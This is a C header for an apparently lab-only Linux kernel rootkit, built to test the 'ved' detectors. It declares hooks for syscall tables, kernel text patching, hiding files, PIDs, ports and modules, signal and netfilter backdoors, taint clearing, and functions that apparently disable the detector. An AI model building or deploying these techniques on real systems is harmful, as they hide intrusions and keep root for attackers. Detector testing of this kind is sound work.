/* SPDX-License-Identifier: GPL-2.0 */
/*
 * vedkit: ved's lab rootkit.  It does what an intruder who got root does to
 * stay hidden and keep root, with techniques chosen by the techniques=
 * parameter, so that ved's detectors can be tested against the real thing.
 */
#ifndef VEDKIT_H
#define VEDKIT_H

#include <linux/types.h>

#define VK_NAME "vedkit"

struct pt_regs;

/* Parameters shared by the techniques (main.c). */
extern char *vk_hide_prefix;
extern int vk_hide_pid;
extern int vk_unlink_pid;
extern int vk_hide_port;
extern int vk_magic_sig;
extern int vk_nf_port;

/* main.c: what a rootkit needs before it can do anything. */
unsigned long vk_lookup(const char *name);
int vk_write_ro_ptr(void *dst, void *val);

/* text.c: writing a 5-byte call/jmp into kernel text. */
#define VK_CALL32	0xe8
#define VK_JMP32	0xe9
#define VK_INSN_LEN	5
/* After the endbr64 (or its sealed nop) and the ftrace site. */
u8 *vk_after_prologue(u8 *fn);
/* @op (call/jmp) at @at to @target in @insn; -ERANGE if out of reach. */
int vk_rel32_insn(u8 insn[VK_INSN_LEN], u8 op, const u8 *at, unsigned long target);
/* Where the call/jmp rel32 at @insn goes. */
void *vk_rel32_target(const u8 *insn);
/* text_poke_bp() of @insn at @at under text_mutex (@emulate: for CPUs hitting it). */
int vk_poke(u8 *at, const u8 *insn, const u8 *emulate);

/* syscall.c: the magic-signal backdoor behind both syscall hooks. */
long vk_kill_common(const struct pt_regs *regs,
		    long (*orig)(const struct pt_regs *), atomic_t *hits);

/* One init/exit pair per technique. */
int vk_sct_init(void);
void vk_sct_exit(void);
int vk_dispatch_init(void);
void vk_dispatch_exit(void);
int vk_hide_module_init(void);
int vk_ftrace_file_init(void);
void vk_ftrace_file_exit(void);
int vk_kprobe_port_init(void);
void vk_kprobe_port_exit(void);
int vk_hide_pid_init(void);
void vk_hide_pid_exit(void);
int vk_nf_backdoor_init(void);
void vk_nf_backdoor_exit(void);
int vk_clear_taint_init(void);
int vk_ved_config_init(void);
int vk_ved_unlock_init(void);
int vk_ved_unprobe_init(void);
int vk_ved_text_init(void);
int vk_patch_module_init(void);
void vk_patch_module_exit(void);
int vk_unlink_task_init(void);
void vk_unlink_task_exit(void);
int vk_static_call_init(void);
void vk_static_call_exit(void);
int vk_ved_static_call_init(void);
void vk_ved_static_call_exit(void);
int vk_inline_hook_init(void);
void vk_inline_hook_exit(void);
int vk_orphan_code_init(void);

/* Read-only views for the tests (module parameters sct_kill, dispatch_kill). */
void *vk_sct_kill_entry(void);
void *vk_dispatch_kill_target(void);

#endif /* VEDKIT_H */
